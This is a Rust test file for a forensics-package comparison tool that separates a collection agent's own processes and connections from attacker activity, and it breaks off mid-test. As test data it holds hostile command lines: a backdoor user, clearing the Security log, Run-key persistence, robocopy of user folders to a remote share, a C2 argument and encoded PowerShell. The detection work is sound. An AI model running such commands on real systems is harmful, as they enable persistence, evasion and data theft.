//! What is told of two packages of a device: what an attacker did must never pass for the agent's own doing, and what
//! one package could not see must never pass for removed.

use std::collections::BTreeMap;

use mde_forensics_package::{
    Budgets, Change, Comparison, FolderFile, Package, compare, parse_indicators,
};

use crate::{
    generated::{members, spec},
    sample::sample_files,
};

type Members = BTreeMap<String, Vec<u8>>;

const PROCESSES: &str = "Processes/Processes.csv";
const SERVICES: &str = "Services/Services.csv";
const AUTORUNS: &str = "Autoruns/Autoruns.txt";
const DNS: &str = "Network Connections/DnsCache.txt";
const SOCKETS: &str = "Network Connections/ActiveNetConnections.txt";
const SHELL: &str = r"C:\WINDOWS\System32\WindowsPowerShell\v1.0\powershell.exe";
const LISTS: &str = r#"C:\WINDOWS\System32\WindowsPowerShell\v1.0\powershell.exe "Get-CimInstance -ClassName Win32_Process | ConvertTo-Csv""#;

fn open(members: &Members) -> Package<Vec<u8>> {
    let files = members.iter().map(|(name, bytes)| FolderFile::new(name, bytes.clone()));
    Package::open_folder(files.collect(), &Budgets::default()).unwrap()
}

/// Two packages of a device, five hours apart.
fn pair() -> (Members, Members) {
    // It was started again in between.
    pair_after(time::Duration::days(7))
}

fn pair_after(passed: time::Duration) -> (Members, Members) {
    let first = spec(3);
    let mut second = first.clone();
    second.collected += passed;
    (members(&first), members(&second))
}

fn compared(before: &Members, after: &Members) -> Comparison {
    compare(&open(before), &open(after)).unwrap()
}

/// The one difference whose key or values have this.
fn with<'a>(comparison: &'a Comparison, table: &str, text: &str) -> &'a Change {
    let has = |change: &&Change| {
        let own = [Some(&change.key), change.before.as_ref(), change.after.as_ref()];
        change.table == table && own.into_iter().flatten().any(|own| own.contains(text))
    };
    let found: Vec<_> = comparison.changes.iter().filter(has).collect();
    assert_eq!(found.len(), 1, "`{text}` in `{table}`: {found:#?}");
    found[0]
}

fn edit(members: &mut Members, name: &str, change: impl FnOnce(String) -> String) {
    let text = String::from_utf8(members[name].clone()).unwrap();
    members.insert(name.to_owned(), change(text).into_bytes());
}

/// A cell of the process whose command line lists the processes: the agent's own shell.
fn of_shell(members: &Members, column: &str) -> String {
    let rows = rows(members);
    let at = rows[0].iter().position(|own| own == column).unwrap();
    rows.iter().find(|row| row.iter().any(|cell| cell == LISTS)).unwrap()[at].clone()
}

/// The header and the rows of the processes.
fn rows(members: &Members) -> Vec<Vec<String>> {
    let text = String::from_utf8_lossy(&members[PROCESSES]);
    text.lines().skip(1).map(cells).collect()
}

fn cells(line: &str) -> Vec<String> {
    let (mut cells, mut is_quoted) = (vec![String::new()], false);
    let mut characters = line.chars().peekable();
    while let Some(c) = characters.next() {
        match c {
            '"' if is_quoted && characters.peek() == Some(&'"') => {
                characters.next();
                cells.last_mut().unwrap().push('"');
            }
            '"' => is_quoted = !is_quoted,
            ',' if !is_quoted => cells.push(String::new()),
            c => cells.last_mut().unwrap().push(c),
        }
    }
    cells
}

/// Adds a process that was started when the agent listed processes, unless it says otherwise.
fn start(members: &mut Members, path: &str, command: &str, parent: Option<&str>) {
    let created = of_shell(members, "CreationDate");
    let parent = parent.map_or_else(|| of_shell(members, "ParentProcessId"), str::to_owned);
    let name = path.rsplit('\\').next().unwrap();
    edit(members, PROCESSES, |text| {
        let header = text.lines().nth(1).unwrap();
        let cells = cells(header).into_iter().map(|column| match &*column {
            "Name" | "ProcessName" | "Caption" | "Description" => name.to_owned(),
            "Path" | "ExecutablePath" => path.to_owned(),
            "CommandLine" => command.replace('"', "\"\""),
            "CreationDate" => created.clone(),
            "ProcessId" | "Handle" => "9990".to_owned(),
            "ParentProcessId" => parent.clone(),
            "CreationClassName" => "Win32_Process".to_owned(),
            "SessionId" => "0".to_owned(),
            _ => String::new(),
        });
        let cells: Vec<_> = cells.map(|cell| format!("\"{cell}\"")).collect();
        format!("{}\r\n{}\r\n", text.trim_end(), cells.join(","))
    });
}

#[test]
fn what_an_attacker_starts_is_never_noise() {
    let (before, after) = pair();
    let system = |name: &str| format!(r"C:\Windows\System32\{name}");
    let tricks = [
        (system("net.exe"), "net user backdoor P@ss /add", None),
        (system("wevtutil.exe"), "wevtutil cl Security", None),
        (
            system("reg.exe"),
            r"reg.exe add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v x",
            None,
        ),
        (system("robocopy.exe"), r"robocopy.exe C:\Users \\203.0.113.7\out", None),
        (r"C:\Users\Public\net.exe".to_owned(), "net user x /add", None),
        (
            r"C:\Users\Public\MsSense.exe".to_owned(),
            r"C:\Users\Public\MsSense.exe -c2 203.0.113.7",
            None,
        ),
        (r"C:\Users\Public\powershell.exe".to_owned(), LISTS, None),
        (r"C:\Windows\Temp\powershell.exe".to_owned(), LISTS, None),
        (r"C:\Windows\System32\..\Temp\powershell.exe".to_owned(), LISTS, None),
        (SHELL.to_owned(), "powershell.exe -enc AAAA", None),
        // The very line of the agent, and somebody else who starts it.
        (r"C:\WINDOWS\SysWOW64\WindowsPowerShell\v1.0\powershell.exe".to_owned(), LISTS, None),
        (system("conhost.exe"), r"conhost.exe --headless evil.exe", None),
        (system("conhost.exe"), r"\??\C:\Windows\System32\conhost.exe 0x4 evil.exe", None),
        (system("conhost.exe"), r"\??\C:\Windows\System32\conhost.exe 0x4 ", Some("4")),
        (r"C:\Users\Public\WmiPrvSE.exe".to_owned(), "", None),
        (system(r"wbem\WmiPrvSE.exe"), r"C:\Windows\System32\wbem\WmiPrvSE.exe evil.mof", None),
        (
            r"C:\Program Files\Windows Defender Advanced Threat Protection\evil.exe".to_owned(),
            "evil",
            None,
        ),
        (
            r"C:\Program Files\Windows Defender Advanced Threat Protection\SenseIR.exe".to_owned(),
            "x",
            Some("4"),
        ),
        (
            r"C:\Program Files\Windows Defender Advanced Threat Protection2\SenseIR.exe".to_owned(),
            "x",
            None,
        ),
        (system("TrustedInstaller.exe"), "TrustedInstaller.exe", None),
        (system("cmd.exe"), "cmd.exe /c whoami", None),
    ];
    let mut after = after;
    for (path, command, parent) in &tricks {
        start(&mut after, path, command, *parent);
    }
    let comparison = compared(&before, &after);
    for (path, command, _) in &tricks {
        let name = path.rsplit('\\').next().unwrap();
        let key = format!("{name} | {path} | {command}");
        let change =
            comparison.changes.iter().find(|own| own.table == "processes" && own.key == key);
        let change = change.unwrap_or_else(|| panic!("{key}"));
        assert_eq!((change.change, change.noise), ("added", None), "{key}");
    }
}

#[test]
fn what_the_collection_starts_is_noise_and_is_counted() {
    let (mut before, after) = pair();
    edit(&mut before, PROCESSES, |text| {
        let is_own =
            |line: &&str| !line.contains("\"powershell.exe\"") && !line.contains("\"conhost.exe\"");
        text.lines().filter(is_own).flat_map(|line| [line, "\r\n"]).collect()
    });
    let comparison = compared(&before, &after);
    for name in ["Get-CimInstance", r"| \??\C:"] {
        let change = with(&comparison, "processes", name);
        assert!(change.noise.is_some(), "{change:#?}");
    }
    let noise = comparison.changes.iter().filter(|change| change.noise.is_some()).count();
    assert_eq!(
        (comparison.noise, comparison.differences),
        (noise, comparison.changes.len() - noise)
    );

    // The same an hour after the collection, and under a parent that is not the agent's.
    let agent = of_shell(&after, "ParentProcessId");
    for (column, other) in [("CreationDate", None), ("ParentProcessId", Some("4"))] {
        let mut after = after.clone();
        let own = of_shell(&after, column);
        let other = other.map_or_else(|| of_first(&after, column), str::to_owned);
        edit(&mut after, PROCESSES, |text| {
            let change = |line: &str| {
                if line.contains("Get-CimInstance") {
                    line.replace(&format!(",\"{own}\","), &format!(",\"{other}\","))
                } else {
                    line.to_owned()
                }
            };
            text.lines().map(|line| change(line) + "\r\n").collect()
        });
        let comparison = compared(&before, &after);
        assert_eq!(
            with(&comparison, "processes", "Get-CimInstance").noise,
            None,
            "{column} {agent}"
        );
    }
}

fn of_first(members: &Members, column: &str) -> String {
    let rows = rows(members);
    let at = rows[0].iter().position(|own| own == column).unwrap();
    rows[1][at].clone()
}

#[test]
fn a_service_of_the_look_of_a_per_user_one_is_shown() {
    let (before, after) = pair();
    let (mut one, mut other) = (before.clone(), after.clone());
    // Nothing stands behind the name.
    for (members, suffix) in [(&mut one, "1337"), (&mut other, "dcfb5")] {
        edit(members, SERVICES, |text| {
            let line = text.lines().find(|line| line.contains("\"ALG\"")).unwrap().to_owned();
            let line = line.replace("\"ALG\"", &format!("\"Updater_{suffix}\""));
            format!("{}\r\n{line}\r\n", text.trim_end())
        });
    }
    let comparison = compared(&one, &other);
    let change = with(&comparison, "services", "Updater_1337");
    assert_eq!((change.change, change.noise), ("removed", None));
    let change = with(&comparison, "services", "Updater_dcfb5");
    assert_eq!((change.change, change.noise), ("added", None));

    // A template that says so, and another program than the template has.
    let key = r"HKEY_LOCAL_MACHINE\System\CurrentControlSet\Services\Updater";
    edit(&mut other, AUTORUNS, |text| {
        format!(
            "{text}\n{key}\n    Type    REG_DWORD    0x60\n    ImagePath    REG_EXPAND_SZ    C:\\Windows\\a.exe\n\n\
             {key}_dcfb5\n    Type    REG_DWORD    0xe0\n    ImagePath    REG_EXPAND_SZ    C:\\Windows\\evil.exe\n"
        )
    });
    let comparison = compared(&one, &other);
    assert_eq!(with(&comparison, "services", "Updater_dcfb5").noise, None);
    let change = with(&comparison, "registry_values", "Updater_dcfb5 | ImagePath");
    assert_eq!((change.change, change.noise), ("added", None));
}

#[test]
fn per_user_services_stay_the_same_in_another_session() {
    let (before, after) = pair();
    let has =
        |members: &Members, name: &str| String::from_utf8_lossy(&members[SERVICES]).contains(name);
    assert!(has(&before, "CDPUserSvc_") && has(&after, "CDPUserSvc_"));
    let comparison = compared(&before, &after);
    let shown =
        comparison.changes.iter().filter(|own| own.table == "services" && own.noise.is_none());
    assert_eq!(shown.filter(|own| own.key.contains("CDPUserSvc")).count(), 0);
    // A package that does not have the registry changes nothing of its services.
    let mut less = after.clone();
    less.remove(AUTORUNS);
    for comparison in [compared(&after, &less), compared(&less, &after)] {
        let services = comparison.changes.iter().filter(|own| own.table == "services");
        assert_eq!(services.count(), 0);
    }
    // Its program is another: it is shown.
    let mut tampered = after.clone();
    edit(&mut tampered, SERVICES, |text| {
        let change = |line: &str| {
            let is_own = line.contains("CDPUserSvc_");
            if is_own { line.replace("svchost.exe", "svch0st.exe") } else { line.to_owned() }
        };
        text.lines().map(|line| change(line) + "\r\n").collect()
    });
    let comparison = compared(&before, &tampered);
    let shown =
        comparison.changes.iter().filter(|own| own.table == "services" && own.noise.is_none());
    assert!(shown.filter(|own| own.key.contains("CDPUserSvc_")).count() > 0);
}

#[test]
fn values_of_the_registry_that_make_something_run_are_never_noise() {
    let (before, after) = pair();
    let services = r"HKEY_LOCAL_MACHINE\System\CurrentControlSet\Services";
    for (key, name, kind, data) in [
        (r"SenseHelper", "ImagePath", "REG_EXPAND_SZ", r"C:\Users\Public\evil.exe"),
        (r"Sense", "Start", "REG_DWORD", "0x4"),
        (
            r"bam\State\UserSettings\S-1-5-21-1-2-3-1001",
            r"\Device\HarddiskVolume3\evil.exe",
            "REG_BINARY",
            "00",
        ),
        (r"W32Time\TimeProviders\Evil", "DllName", "REG_EXPAND_SZ", r"C:\evil.dll"),
        (r"mpssvc\Parameters", "ServiceDll", "REG_EXPAND_SZ", r"C:\evil.dll"),
        (r"W32Time\SecureTimeLimits", "Evil", "REG_QWORD", "0x1"),
    ] {
        let mut after = after.clone();
        edit(&mut after, AUTORUNS, |text| {
            format!("{text}\n{services}\\{key}\n    {name}    {kind}    {data}\n")
        });
        let comparison = compared(&before, &after);
        let change = with(&comparison, "registry_values", &format!("{key} | {name}"));
        assert_eq!(change.noise, None, "{change:#?}");
    }
    let clock = |data: &str| {
        format!(
            "\n{services}\\W32Time\\SecureTimeLimits\n    SecureTimeHigh    REG_QWORD    {data}\n"
        )
    };
    let (mut before, mut after) = (before, after);
    edit(&mut before, AUTORUNS, |text| text + &clock("0x1"));
    edit(&mut after, AUTORUNS, |text| text + &clock("0x2"));
    let comparison = compared(&before, &after);
    assert!(with(&comparison, "registry_values", "SecureTimeHigh").noise.is_some());
}

#[test]
fn the_agents_connections_are_its_own_and_where_its_names_lead_is_told() {
    let (before, after) = pair();
    // Nothing in a package says whose an address is, and some lead nowhere.
    for data in ["20.190.1.2", "185.220.101.5", "127.0.0.1", "::ffff:127.0.0.1"] {
        let mut after = after.clone();
        let kind = if data.contains(':') { 28 } else { 1 };
        edit(&mut after, DNS, |text| {
            format!(
                "{text}\r\n    eu.endpoint.security.microsoft.com\r\n    ----------------------------------------\r\n    \
                 Record Name . . . . . : eu.endpoint.security.microsoft.com\r\n    Record Type . . . . . : {kind}\r\n    \
                 Time To Live  . . . . : 12\r\n    Data Length . . . . . : 4\r\n    Section . . . . . . . : Answer\r\n    \
                 A (Host) Record . . . : {data}\r\n\r\n"
            )
        });
        let comparison = compared(&before, &after);
        let change = with(
            &comparison,
            "dns_cache",
            &format!("eu.endpoint.security.microsoft.com | {kind} | {data}"),
        );
        assert_eq!(change.noise, None, "{change:#?}");
    }
    let agent = of_shell(&after, "ParentProcessId");
    for (program, process, is_noise) in
        [("MsSense.exe", &*agent, true), ("MsSense.exe", "9990", false)]
    {
        let mut after = after.clone();
        edit(&mut after, SOCKETS, |text| {
            format!(
                "{text}  TCP    10.9.9.9:50000         203.0.113.7:443        ESTABLISHED     {process}\r\n [{program}]\r\n"
            )
        });
        let comparison = compared(&before, &after);
        let change = with(&comparison, "net_sockets", "10.9.9.9 | 203.0.113.7");
        assert_eq!(change.noise.is_some(), is_noise, "{change:#?}");
    }
}

#[test]
fn a_socket_is_the_antiviruss_only_where_its_process_is() {
    const FOLDER: &str = r"C:\Program Files\Windows Defender";
    let (before, after) = pair();
    let service = |members: &mut Members, process: &str| {
        edit(members, SERVICES, |text| {
            format!(
                "{}\r\n\"Defender\",\"Helps\",,\"WinDefend\",\"OK\",\"Win32_Service\",\"True\",\"'Auto'\",\
                 \"Win32_ComputerSystem\",\"WS-042\",\"False\",\"True\",\"False\",\"Defender\",\"Normal\",\"0\",\
                 \"{FOLDER}\\MsMpEng.exe\",\"0\",\"Own Process\",\"LocalSystem\",\"Running\",\"0\",\"0\",\"False\",\
                 \"{process}\",\"0\",\r\n",
                text.trim_end()
            )
        });
    };
    let socket = |members: &mut Members, program: &str| {
        edit(members, SOCKETS, |text| {
            format!(
                "{text}  TCP    10.9.9.9:50000         203.0.113.7:443        ESTABLISHED     9990\r\n [{program}]\r\n"
            )
        });
    };
    let own = format!(r"{FOLDER}\MsMpEng.exe");
    for (path, program, services, is_noise) in [
        (&*own, "MsMpEng.exe", &["9990"][..], true),
        // An unquoted path that starts another program, and a second row for the service.
        (r"C:\Program.exe", "Program.exe", &["9990"], false),
        (&own, "Program.exe", &["9990"], false),
        (r"C:\Program.exe", "MsMpEng.exe", &["9990"], false),
        (r"C:\Users\Public\MsMpEng.exe", "MsMpEng.exe", &["9990"], false),
        (&own, "MsMpEng.exe", &["4", "9990"], false),
    ] {
        let mut after = after.clone();
        start(&mut after, path, path, Some("4"));
        without(&mut after, SERVICES, "\"WinDefend\"");
        for process in services {
            service(&mut after, process);
        }
        socket(&mut after, program);
        let comparison = compared(&before, &after);
        let change = with(&comparison, "net_sockets", "10.9.9.9 | 203.0.113.7");
        assert_eq!(change.noise.is_some(), is_noise, "{path} {program} {services:?}");
    }
}

#[test]
fn what_one_package_has_no_member_of_is_not_compared() {
    let (before, after) = pair();
    let whole = compared(&before, &after);
    assert!(!whole.needs_a_look(), "{:#?}", whole.not_compared);
    for (member, table) in [
        (SERVICES, "services"),
        (PROCESSES, "processes"),
        (AUTORUNS, "registry_values"),
        (DNS, "dns_cache"),
    ] {
        let mut less = after.clone();
        less.remove(member).unwrap();
        for (one, other, side) in [(&before, &less, "after"), (&less, &after, "before")] {
            let comparison = compared(one, other);
            assert!(comparison.changes.iter().all(|change| change.table != table), "{table}");
            let said =
                comparison.not_compared.iter().find(|own| own.why.contains(&format!("`{table}`")));
            assert_eq!(said.map(|own| own.side), Some(side), "{:#?}", comparison.not_compared);
            assert!(comparison.needs_a_look());
        }
    }
}

#[test]
fn a_user_who_is_logged_off_and_a_profile_that_is_not_listed_are_not_removed() {
    let (before, after) = pair();
    let user = "S-1-5-21-1-2-3-4444";
    let programs = format!(
        "Installed Programs/{user}_Software_Microsoft_Windows_CurrentVersion_Uninstall.txt"
    );
    let (mut one, mut other) = (before.clone(), after.clone());
    one.insert(
        programs.clone(),
        format!(
            "\r\nHKEY_USERS\\{user}\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\OneDriveSetup.exe\r\n    \
             DisplayName    REG_SZ    Microsoft OneDrive\r\n\r\n"
        )
        .into_bytes(),
    );
    other.insert(
        programs,
        b"ERROR: The system was unable to find the specified registry key or value.\r\n".to_vec(),
    );
    let comparison = compared(&one, &other);
    let change = with(&comparison, "programs", "Microsoft OneDrive");
    assert_eq!(
        (change.change, change.note),
        (
            "removed",
            Some("the key is not there, or the user was logged off and the hive not loaded")
        )
    );
    let said = comparison.not_compared.iter().find(|own| own.why.contains(user)).unwrap();
    assert_eq!((said.side, said.is_by_design), ("after", false));

    let profile = before
        .keys()
        .find(|name| name.ends_with("_TempDirFiles.txt") && before[*name].len() > 200)
        .unwrap();
    for missing in [None, Some("The system cannot find the path specified.\r\n")] {
        let mut less = after.clone();
        match missing {
            None => drop(less.remove(profile)),
            Some(text) => drop(less.insert(profile.clone(), text.into())),
        }
        let comparison = compared(&before, &less);
        let removed: Vec<_> = comparison
            .changes
            .iter()
            .filter(|change| {
                change.table == "temp_files" && change.change == "removed" && change.note.is_some()
            })
            .collect();
        assert!(!removed.is_empty());
        assert!(
            comparison
                .not_compared
                .iter()
                .any(|own| own.side == "after" && own.why.starts_with("`temp_files`"))
        );
    }
    let wow = "Installed Programs/hklm_Software_Wow6432Node_Microsoft_Windows_CurrentVersion_Uninstall.txt";
    let mut less = after;
    less.remove(wow).unwrap();
    let comparison = compared(&before, &less);
    assert!(
        comparison.not_compared.iter().any(|own| own.why.contains(wow)),
        "{:#?}",
        comparison.not_compared
    );
}

const SUMMARY: &str = "Forensics Collection Summary.csv";
const COPIED: &str = "Prefetch Files/PrefetchFilesList.txt";
const NOT_ASKED: &str = "the key was not asked for";

/// What is said not to be compared of a package, but for what never is.
fn said<'a>(comparison: &'a Comparison, side: &str) -> Vec<(Option<&'a str>, &'a str)> {
    let own = comparison.not_compared.iter().filter(|own| own.side == side && !own.is_by_design);
    own.map(|own| (own.member.as_deref(), &*own.why)).collect()
}

/// Leaves out the lines that have a text.
fn without(members: &mut Members, name: &str, text: &str) {
    edit(members, name, |own| {
        own.lines().filter(|line| !line.contains(text)).flat_map(|line| [line, "\r\n"]).collect()
    });
}

/// Leaves out a prefetch file, in the log of the copy too.
fn without_program(members: &mut Members, executable: &str) {
    let own = format!("/{executable}-");
    let count = members.len();
    members.retain(|name, _| !name.contains(&own));
    assert_eq!(members.len(), count - 1);
    without(members, COPIED, &format!("\t{executable}-"));
}

#[test]
fn what_is_lost_of_a_listing_or_a_copy_is_never_removed_unsaid() {
    let (before, after) = pair();
    let cut = |name: &str, end: usize| {
        let mut less = after.clone();
        less.get_mut(name).unwrap().truncate(end);
        less
    };
    let is_listing = |name: &&String| name.ends_with("_TempDirFiles.txt");
    let listing = after.keys().filter(is_listing).max_by_key(|name| after[*name].len()).unwrap();
    let totals = String::from_utf8_lossy(&after[COPIED]).find("Total    Copied").unwrap();
    let mut uncopied = after.clone();
    uncopied.retain(|name, _| !name.contains("/CONSENT.EXE-"));
    let mut failed = after.clone();
    let zeros = format!("{0:>10}{0:>10}{0:>10}\r\n   Bytes", 0);
    let one = format!("{0:>10}{1:>10}{0:>10}\r\n   Bytes", 0, 1);
    edit(&mut failed, COPIED, |text| text.replace(&zeros, &one));
    assert_ne!(failed[COPIED], after[COPIED]);
    for (less, member, why) in [
        (cut(listing, after[listing].len() / 2), Some(&**listing), "does not end with"),
        (cut(COPIED, totals), Some(COPIED), "has 0 lines of totals"),
        (uncopied, None, "prefetch files, and the package has"),
        (failed, None, "robocopy failed to copy 1 prefetch files"),
    ] {
        let comparisons = [compared(&before, &less), compared(&less, &after)];
        for (comparison, side) in comparisons.iter().zip(["after", "before"]) {
            let told = said(comparison, side);
            let is_own = |own: &&(Option<&str>, &str)| own.0 == member && own.1.contains(why);
            assert_eq!(told.iter().filter(is_own).count(), 1, "{why}: {told:#?}");
            assert!(comparison.needs_a_look());
        }
        let search = open(&less).search(&parse_indicators("a.example").unwrap(), 1).unwrap();
        let told = search
            .not_searched
            .iter()
            .filter(|own| own.member.as_deref() == member && own.why.contains(why));
        assert_eq!(told.count(), 1, "{why}: {:#?}", search.not_searched);
    }
}

#[test]
fn a_table_that_is_partial_has_an_issue_that_hides_rows() {
    let (_, whole) = pair();
    let mut has_program = false;
    for (name, bytes) in &whole {
        // One prefetch file is as good as another.
        if name.contains("/Prefetch/") && std::mem::replace(&mut has_program, true) {
            continue;
        }
        let mut members = Members::from([(name.clone(), bytes.clone())]);
        members.get_mut(name).unwrap().truncate(bytes.len() / 2);
        let package = open(&members);
        for schema in Package::<Vec<u8>>::schemas() {
            let table = package.table(schema.name).unwrap();
            let is_said = table.issues.iter().any(mde_forensics_package::Issue::hides_rows);
            assert!(!table.is_partial || is_said, "{name}: {:#?}", table.issues);
        }
    }
}

#[test]
fn a_prefetch_file_that_was_too_old_to_be_copied_is_not_removed() {
    let (before, after) = pair_after(time::Duration::hours(5));
    let mut less = after;
    without_program(&mut less, "CONSENT.EXE");
    let day = |offset| {
        let day = spec(3).collected.date() + time::Duration::days(offset);
        format!("/MAXAGE:{}", day.to_string().replace('-', ""))
    };
    // The day of the file's last run is within the week, and no run is of the time after the collection.
    for (from, is_old) in [(day(-7), false), (day(2), true)] {
        let mut less = less.clone();
        edit(&mut less, SUMMARY, |text| text.replace(&day(-7), &from));
        assert!(String::from_utf8_lossy(&less[SUMMARY]).contains(&from));
        let comparison = compared(&before, &less);
        for table in ["prefetch", "robocopy_files"] {
            let change = with(&comparison, table, "CONSENT.EXE");
            assert_eq!((change.change, change.note.is_some()), ("removed", is_old), "{change:#?}");
            let told = said(&comparison, "after");
            let is_own = |own: &(_, &str)| own.1.starts_with(&format!("`{table}`: 1 row"));
            assert_eq!(told.iter().any(is_own), is_old, "{table}");
        }
    }
}

#[test]
fn a_key_that_was_not_asked_for_is_not_removed() {
    let (before, after) = pair();
    let services = r"CurrentControlSet\Services";
    let no_services = |members: &Members| {
        let mut less = members.clone();
        edit(&mut less, AUTORUNS, |text| {
            let blocks = text.split("\r\n\r\n");
            let is_kept = |block: &&str| !block.to_lowercase().contains(&services.to_lowercase());
            blocks.filter(is_kept).flat_map(|block| [block, "\r\n\r\n"]).collect()
        });
        assert!(less[AUTORUNS].len() < members[AUTORUNS].len());
        less
    };
    let emptied = no_services(&after);
    let mut unasked = emptied.clone();
    without(&mut unasked, SUMMARY, services);
    for (less, note) in [(&emptied, None), (&unasked, Some(NOT_ASKED))] {
        let comparison = compared(&before, less);
        for table in ["registry_values", "autoruns"] {
            let removed: Vec<_> = comparison
                .changes
                .iter()
                .filter(|own| own.table == table && own.key.contains(services))
                .collect();
            assert!(removed.iter().any(|own| own.change == "removed"), "{table}");
            assert!(removed.iter().all(|own| own.note == note), "{removed:#?}");
            let told = said(&comparison, "after");
            let is_own = |own: &&(Option<&str>, &str)| {
                own.1.starts_with(&format!("`{table}`")) && own.1.contains(NOT_ASKED)
            };
            assert_eq!(
                told.iter().filter(is_own).count(),
                usize::from(note.is_some()),
                "{told:#?}"
            );
        }
    }
    // Every key of a package is below one that its summary says was asked for.
    for members in [Some(before), sample_files()].into_iter().flatten() {
        let mut none = members.clone();
        none.insert(
            AUTORUNS.to_owned(),
            b"\r\nHKEY_LOCAL_MACHINE\\x\r\n    a    REG_SZ    b\r\n".into(),
        );
        let comparison = compared(&members, &none);
        let mut removed = comparison.changes.iter().filter(|own| own.change == "removed");
        assert!(removed.all(|own| own.note != Some(NOT_ASKED)));
    }
}

#[test]
fn a_hive_that_is_there_excuses_nothing_and_one_that_was_not_asked_for_is_no_log_off() {
    let (before, after) = pair();
    let run = r"Software\Microsoft\Windows\CurrentVersion\Run";
    let key = |hive: &str, data: &str| {
        format!("\r\nHKEY_USERS\\{hive}\\{run}\r\n    {data}    REG_SZ    C:\\{data}.exe\r\n")
    };
    let asked = |members: &mut Members, hive: &str| {
        edit(members, SUMMARY, |text| {
            let is_run =
                |line: &&str| line.contains("hklm_Software_Microsoft_Windows_CurrentVersion_Run,");
            let line = text.lines().find(is_run).unwrap();
            let (front, rest) = line.split_once("\"\"").unwrap();
            let (_, rest) = rest.split_once("\"\"").unwrap();
            let front = front.replace("hklm_", "hkcu_");
            format!("{text}{front}\"\"HKEY_USERS\\{hive}\\{run}\"\"{rest}\r\n")
        });
    };
    let logged_off = "the key is not there, or the user was logged off and the hive not loaded";
    let user = "S-1-5-21-1-2-3-4444";
    for (hive, is_asked, is_there, note) in [
        (".DEFAULT", true, true, None),
        (".DEFAULT", false, true, None),
        (user, true, true, None),
        (user, true, false, Some(logged_off)),
        (user, false, false, Some(NOT_ASKED)),
    ] {
        let (mut one, mut other) = (before.clone(), after.clone());
        edit(&mut one, AUTORUNS, |text| text + &key(hive, "old"));
        asked(&mut one, hive);
        if is_there {
            edit(&mut other, AUTORUNS, |text| text + &key(hive, "new"));
        }
        if is_asked {
            asked(&mut other, hive);
        }
        let comparison = compared(&one, &other);
        let change = with(&comparison, "registry_values", "old.exe");
        assert_eq!((change.change, change.note), ("removed", note), "{hive} {is_asked} {is_there}");
    }
}

#[test]
fn every_table_is_compared_or_said_not_to_be() {
    let (before, after) = pair();
    let comparison = compared(&before, &after);
    let of_package = ["collection", "members", "issues", "coverage", "timeline"];
    let mut changed = after;
    for member in changed.values_mut() {
        member.clear();
    }
    let emptied = compared(&before, &changed);
    for schema in Package::<Vec<u8>>::schemas().filter(|schema| !of_package.contains(&schema.name))
    {
        let is_said = comparison
            .not_compared
            .iter()
            .any(|own| own.is_by_design && own.why.starts_with(&format!("`{}`", schema.name)));
        let is_compared = emptied.changes.iter().any(|own| own.table == schema.name);
        assert!(is_said ^ is_compared, "`{}`: said {is_said}, compared {is_compared}", schema.name);
    }
}

#[test]
fn in_a_real_package_the_agents_own_is_told_from_others() {
    let Some(after) = sample_files() else { return };
    let mut before = after.clone();
    edit(&mut before, "Forensics Collection Summary.csv", |text| {
        text.replace("2025-08-07", "2025-08-05")
    });
    edit(&mut before, PROCESSES, |text| {
        let mut lines = text.lines();
        let header: Vec<_> = lines.by_ref().take(2).collect();
        let is_kept =
            |line: &&str| !line.contains("\"powershell.exe\"") && !line.contains("\"conhost.exe\"");
        header.into_iter().chain(lines.filter(is_kept)).flat_map(|line| [line, "\n"]).collect()
    });
    edit(&mut before, SERVICES, |text| text.replace("_16b77d", "_122408"));
    edit(&mut before, AUTORUNS, |text| text.replace("_16b77d", "_122408"));
    edit(&mut before, SOCKETS, |text| text.replace(":443 ", ":8443"));
    let comparison = compared(&before, &after);
    assert!(with(&comparison, "processes", "Get-CimInstance").noise.is_some());
    // One console is that of the collection, and one of the user: they are one thing, which is shown.
    assert_eq!(with(&comparison, "processes", "conhost.exe").noise, None);
    let shown = comparison.changes.iter().filter(|change| change.noise.is_none());
    let shown: Vec<_> = shown.filter(|change| change.table != "net_sockets").collect();
    assert_eq!(shown.len(), 1, "{shown:#?}");
    let agent =
        |change: &&Change| change.table == "net_sockets" && change.key.contains("MsSense.exe");
    assert!(comparison.changes.iter().filter(agent).all(|change| change.noise.is_some()));
}

#[test]
fn a_port_that_is_listened_on_is_told_and_one_that_windows_chose_is_not() {
    let (before, _) = pair();
    let with = |lines: &str| {
        let mut after = before.clone();
        edit(&mut after, SOCKETS, |text| format!("{}\r\n{lines}", text.trim_end()));
        compared(&before, &after)
    };
    for line in [
        "  TCP    0.0.0.0:31337          0.0.0.0:0              LISTENING       4\r\n",
        "  UDP    0.0.0.0:31337          *:*                                    4\r\n",
        "  TCP    [::]:31337             [::]:0                 LISTENING       4\r\n",
    ] {
        let comparison = with(line);
        let change = self::with(&comparison, "net_sockets", "31337");
        assert_eq!((change.change, change.noise), ("added", None), "{change:#?}");
        assert_eq!(comparison.differences, 1);
    }
    let connection = |port: u32| {
        format!(
            "  TCP    10.9.9.9:{port}         203.0.113.7:443        ESTABLISHED     4\r\n [x.exe]\r\n"
        )
    };
    let mut one = before.clone();
    edit(&mut one, SOCKETS, |text| format!("{}\r\n{}", text.trim_end(), connection(50_000)));
    let comparison = compared(&one, &one);
    assert_eq!(comparison.changes.len(), 0);
    let mut other = before.clone();
    edit(&mut other, SOCKETS, |text| format!("{}\r\n{}", text.trim_end(), connection(50_001)));
    assert_eq!(compared(&one, &other).changes.len(), 0);
    // A second one is told.
    edit(&mut other, SOCKETS, |text| text + &connection(50_002));
    let comparison = compared(&one, &other);
    let change = self::with(&comparison, "net_sockets", "203.0.113.7");
    assert_eq!((change.change, &*change.columns), ("changed", "instances"));
}

/// Adds a process with an id and a parent, without a command line.
fn add(members: &mut Members, id: u32, parent: &str) {
    start(members, r"C:\Windows\System32\cmd.exe", "", Some(parent));
    edit(members, PROCESSES, |text| text.replace("\"9990\"", &format!("\"{id}\"")));
}

#[test]
fn more_processes_and_others_of_one_command_line_are_told() {
    let (base, _) = pair();
    let shell = of_shell(&base, "ProcessId");
    let mut one = base.clone();
    add(&mut one, 90_001, &shell);
    assert_eq!(compared(&one, &one).changes.len(), 0);

    let mut more = one.clone();
    add(&mut more, 90_002, &shell);
    let comparison = compared(&one, &more);
    let change = with(&comparison, "processes", "cmd.exe");
    assert_eq!((change.change, change.noise, comparison.differences), ("changed", None, 1));
    assert!(change.columns.starts_with("instances"), "{change:#?}");
    let after = change.after.as_deref().unwrap();
    assert!(after.contains("instances=2") && after.contains("90002"), "{after}");

    // Another in its place, by another parent.
